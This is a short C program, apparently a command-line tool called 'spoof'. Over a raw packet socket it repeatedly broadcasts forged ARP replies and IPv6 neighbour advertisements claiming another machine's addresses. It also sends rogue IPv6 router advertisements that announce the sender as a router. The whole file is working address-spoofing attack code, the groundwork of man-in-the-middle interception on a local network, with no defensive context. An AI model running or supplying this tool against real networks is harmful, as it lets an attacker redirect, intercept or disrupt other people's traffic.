// Says to everybody on the network that an address of another machine's is at this one: by ARP and by IPv6 neighbour
// advertisements, and as a router. spoof INTERFACE IPV4 IPV6
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static uint16_t sum(const uint8_t *src, const uint8_t *dst, const uint8_t *p, size_t n)
{
	uint32_t s = 58 + n;
	for (int i = 0; i < 16; i += 2)
		s += (src[i] << 8 | src[i + 1]) + (dst[i] << 8 | dst[i + 1]);
	for (size_t i = 0; i < n; i += 2)
		s += p[i] << 8 | p[i + 1];
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons(~s);
}

// six sends an ICMPv6 message to all nodes
static void six(int fd, struct sockaddr_ll *to, const uint8_t *mac, const uint8_t *src, uint8_t *icmp, size_t n)
{
	uint8_t f[200] = { 0x33, 0x33, 0, 0, 0, 1 };
	uint8_t *ip = f + 14;
	memcpy(f + 6, mac, 6);
	f[12] = 0x86, f[13] = 0xdd;
	ip[0] = 0x60, ip[5] = n, ip[6] = 58, ip[7] = 255;
	memcpy(ip + 8, src, 16);
	ip[24] = 0xff, ip[25] = 2, ip[39] = 1;
	icmp[2] = icmp[3] = 0;
	uint16_t s = sum(ip + 8, ip + 24, icmp, n);
	memcpy(icmp + 2, &s, 2);
	memcpy(ip + 40, icmp, n);
	sendto(fd, f, 54 + n, 0, (struct sockaddr *)to, sizeof *to);
}

int main(int argc, char **argv)
{
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	struct ifreq r = { 0 };
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6 };
	uint8_t mac[6], v4[4], v6[16];

	if (argc < 4 || fd < 0)
		return 1;
	strncpy(r.ifr_name, argv[1], IFNAMSIZ - 1);
	ioctl(fd, SIOCGIFHWADDR, &r);
	memcpy(mac, r.ifr_hwaddr.sa_data, 6);
	to.sll_ifindex = if_nametoindex(argv[1]);
	inet_pton(AF_INET, argv[2], v4);
	inet_pton(AF_INET6, argv[3], v6);
	for (int round = 0; round < 50; round++) {
		for (int op = 1; op <= 2; op++) {
			uint8_t f[60] = { 255, 255, 255, 255, 255, 255 };
			memcpy(f + 6, mac, 6);
			memcpy(f + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00", 9);
			f[21] = op;
			memcpy(f + 22, mac, 6);
			memcpy(f + 28, v4, 4);
			memcpy(f + 38, v4, 4);
			sendto(fd, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to);
		}
		uint8_t na[32] = { 136, 0, 0, 0, 0x20 };
		memcpy(na + 8, v6, 16);
		na[24] = 2, na[25] = 1;
		memcpy(na + 26, mac, 6);
		six(fd, &to, mac, v6, na, 32);
		uint8_t link[16] = { 0xfe, 0x80, [15] = 0x66 };
		uint8_t ra[56] = { 134, 0, 0, 0, 64, 0, 7, 8 }; // a router, for half an hour, and a network
		ra[16] = 3, ra[17] = 4, ra[18] = 64, ra[19] = 0xc0, ra[22] = 7, ra[26] = 7;
		memcpy(ra + 32, "\x20\x01\x0d\xb8\x66", 5);
		ra[48] = 1, ra[49] = 1;
		memcpy(ra + 50, mac, 6);
		six(fd, &to, mac, link, ra, 56);
		usleep(20000);
	}
	puts("done");
	return 0;
}
